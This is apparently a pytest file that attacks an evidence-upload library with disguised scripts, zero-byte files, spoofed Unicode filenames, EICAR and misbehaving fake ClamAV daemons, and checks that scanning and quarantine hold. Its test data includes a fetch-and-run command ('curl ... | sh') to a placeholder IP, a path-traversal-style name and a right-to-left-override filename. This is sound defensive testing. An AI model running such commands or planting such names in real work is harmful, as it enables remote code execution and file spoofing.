"""Round 20 of attacks on the Evidence Library: types that disagree (a script named .pdf), zero bytes, hostile
long Unicode names, the same bytes uploaded under two names while the scanner is down (both records must
survive), bytes changed while clamd reads them (the verdict must apply to what is stored), and a clamd
dying mid-stream or answering two verdicts. Real clamd where the scan matters, a fake one on a Unix socket
for what a real one would not do."""

from __future__ import annotations

import socket
import time

from tests.evidence.clamav import EICAR
from tests.evidence.files import make_pdf
from tests.evidence.library import make_library
from tests.test_evidence_attacks import answer, read_stream
from tests.test_evidence_attacks import fake_clamd as fake_clamd  # a fixture, used by name


def test_a_script_named_as_a_document_is_quarantined_a_script_named_as_one_is_stored(tmp_path, clamd):
    lib = make_library(tmp_path, clamd)
    script = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
    for name in ("Q3 SOC2 report.pdf", "chart.PNG", "access review.xlsx"):
        out = lib.ingest(script, name, "email")
        assert out.status == "quarantined" and "a script" in out.reason and "named" in out.reason, out.reason
    assert lib.ingest(script, "rotate-keys.sh", "change-management").status == "stored"  # a change artifact
    text = lib.ingest(b"plain notes renamed to pdf", "notes.pdf", "email")  # harmless: stored, typed by its bytes
    assert text.status == "stored" and text.metadata["mime_type"] == "text/plain"


def test_zero_bytes_and_long_unicode_names_are_stored_and_recorded(tmp_path, clamd):
    lib = make_library(tmp_path, clamd)
    names = ["\U0001f600" * 5000 + ".pdf", "..\u2215..\u2215etc\u2215passwd", "\u202efdp.exe", "e\u0301" * 3000]
    outs = [lib.ingest(b"", n, "slack", source_ref=f"r{i}") for i, n in enumerate(names)]
    assert {o.status for o in outs} == {"stored"} and len({o.storage_uri for o in outs}) == 1
    rows = lib.ledger.rows("files")
    assert len(rows) == 4 and all(len(r["filename"]) <= 4096 for r in rows)
    assert rows[0]["filename"].endswith("\u2026") and rows[2]["filename"] == "\u202efdp.exe"
    assert lib.store.get(outs[0].sha256) == b""


def test_the_same_bytes_under_two_names_while_clamd_is_down_keep_both_records(tmp_path, clamd):
    lib = make_library(tmp_path, None, require_scan=True)  # no scanner yet: both wait
    content = make_pdf(["vendor risk assessment"])
    first = lib.ingest(content, "risk-2024.pdf", "slack")
    second = lib.ingest(content, "risk copy.pdf", "slack")
    assert first.status == second.status == "pending"
    lib.scanner = clamd
    done = lib.retry_pending()
    assert sorted(o.filename for o in done) == ["risk copy.pdf", "risk-2024.pdf"]
    assert {o.status for o in done} == {"stored"} and len({o.storage_uri for o in done}) == 1
    assert lib.retry_pending() == []  # nothing left waiting
    stored = [r for r in lib.ledger.rows("files") if r["status"] == "stored"]
    assert sorted(r["filename"] for r in stored) == ["risk copy.pdf", "risk-2024.pdf"]
    # the same name again is the same upload: one pending file, not two
    lib.scanner = None
    lib.ingest(content, "risk-2024.pdf", "slack")
    lib.ingest(content, "risk-2024.pdf", "slack")
    assert len(list(lib.pending_dir.glob("*.json"))) == 1


def test_bytes_changed_while_clamd_reads_them_are_not_stored_under_its_verdict(tmp_path, fake_clamd):
    upload = bytearray(b"benign access review notes " * 1000)
    original = bytes(upload)

    def swap_then_ok(conn: socket.socket) -> None:
        read_stream(conn)
        upload[:len(EICAR)] = EICAR  # the caller's buffer changes after the scan read it
        conn.sendall(b"stream: OK\0")

    lib = make_library(tmp_path, fake_clamd(swap_then_ok))
    out = lib.ingest(upload, "notes.txt", "slack")
    assert out.status == "stored"
    assert lib.store.get(out.sha256) == original and EICAR not in lib.store.get(out.sha256)
    assert [o.sha256 for o in lib.store.list()] == [out.sha256]


def dies_mid_stream(conn: socket.socket) -> None:
    read_stream(conn, limit=300_000)
    conn.close()


def two_verdicts(conn: socket.socket) -> None:
    read_stream(conn)
    conn.sendall(b"stream: OK\0stream: OK\0")


def slow_ok(conn: socket.socket) -> None:
    read_stream(conn)
    time.sleep(1)
    conn.sendall(b"stream: OK\0")


def test_a_clamd_dying_mid_stream_or_answering_twice_leaves_the_file_pending(tmp_path, fake_clamd):
    content = b"firewall export " * 100_000  # 1.6 MB: the fake stops reading after 300 KB
    for n, behaviour in enumerate([dies_mid_stream, two_verdicts, answer(b"stream: OK\0", after_reading=False)]):
        lib = make_library(tmp_path / str(n), fake_clamd(behaviour, timeout=3))
        started = time.monotonic()
        out = lib.ingest(content, "fw.txt", "jira", source_ref=f"fw-{n}")
        assert time.monotonic() - started < 8
        assert out.status == "pending" and out.reason, (n, out.reason)
        assert list(lib.store.list()) == []
    lib = make_library(tmp_path / "slow", fake_clamd(slow_ok, timeout=3))
    assert lib.ingest(content, "fw.txt", "jira").status == "stored"  # slow within the timeout is a verdict


def test_a_clamd_that_is_gone_leaves_the_file_pending_then_retry_finishes_it(tmp_path, clamd):
    from resources.evidence.scan import ClamdScanner

    lib = make_library(tmp_path, ClamdScanner(str(tmp_path / "no-such.sock"), timeout=2))
    out = lib.ingest(EICAR, "eicar.txt", "email")
    assert out.status == "pending" and "not reachable" in out.reason
    lib.scanner = clamd
    [done] = lib.retry_pending()
    assert done.status == "quarantined" and done.reason.startswith("ClamAV found")
